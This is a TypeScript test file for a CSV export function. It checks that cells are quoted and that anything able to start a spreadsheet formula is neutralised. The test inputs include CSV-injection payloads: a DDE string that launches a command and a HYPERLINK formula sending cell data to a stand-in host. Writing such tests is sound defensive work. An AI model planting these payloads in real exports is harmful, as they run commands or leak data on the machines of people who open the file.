import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { toCsvLine } from '../../src/modules/exports/csv.ts';
import { parseCsv } from './parse-csv.ts';

describe('a cell', () => {
  test.each([
    ['plain', 'plain'],
    ['', ''],
    [null, ''],
    [0, '0'],
    [-5.25, '-5.25'],
    [true, 'true'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['a;b', '"a;b"'],
    [' spaced ', '" spaced "'],
    ['₹ और', '₹ और'],
    ['a=b', 'a=b'],
    ['12-4', '12-4'],
  ])('%j is written %j', (value, written) => {
    expect(toCsvLine([value])).toBe(`${written}\r\n`);
  });

  test.each([
    '=1+1',
    '+91 98765 43210',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1',
    '\u0001=1',
    '\u00A0=1',
    '\u200B=1',
    '\uFEFF=1',
    '＝1',
    '＋1',
    '－1',
    '＠A1',
    '\tplain',
    `=cmd|' /C calc'!A0`,
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
  ])('%j cannot start a formula', (value) => {
    expect(toCsvLine(['x', value])).toBe(`x,"'${value.replaceAll('"', '""')}"\r\n`);
  });

  test('is read back by any reader of CSV as it was, or with one apostrophe before it', () => {
    const cells = fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 6 });
    fc.assert(
      fc.property(cells, (given) => {
        const [read] = parseCsv(toCsvLine(given));
        expect(read).toHaveLength(given.length);
        for (const [i, cell] of read!.entries()) {
          expect([given[i], `'${given[i]}`]).toContain(cell);
          expect(cell).not.toMatch(/^\s*[=+\-@]/);
        }
      }),
      { numRuns: 1_000 },
    );
  });
});
